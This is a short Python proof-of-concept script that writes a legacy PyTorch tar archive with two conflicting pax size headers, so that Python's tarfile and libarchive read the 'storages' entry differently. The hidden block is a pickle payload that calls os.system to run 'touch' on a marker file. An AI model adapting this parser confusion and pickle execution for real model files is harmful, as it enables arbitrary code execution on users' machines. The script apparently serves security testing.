"""Legacy torch tar: two pax headers before 'storages' (header size 0): the first says size=512, the second
size=0. Python's tarfile applies the outer (first) pax header last, so storages is 512 bytes; libarchive
applies them in order, so the second wins (0 bytes) and it reads the data block as the next header.
usage: python3 tar_two_pax.py OUT MARKER"""
import sys

from tarblocks import header, pad, write_legacy_tar

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    r1, r2 = b"12 size=512\n", b"10 size=0\n"
    blocks = [header(b"PaxHeader/1", len(r1), b"x"), pad(r1),
              header(b"PaxHeader/2", len(r2), b"x"), pad(r2),
              header(b"storages", 0),
              header(payload, 0)]      # tarfile: storages' 512 bytes; libarchive: a header
    write_legacy_tar(out, blocks)

if __name__ == "__main__":
    main(*sys.argv[1:])
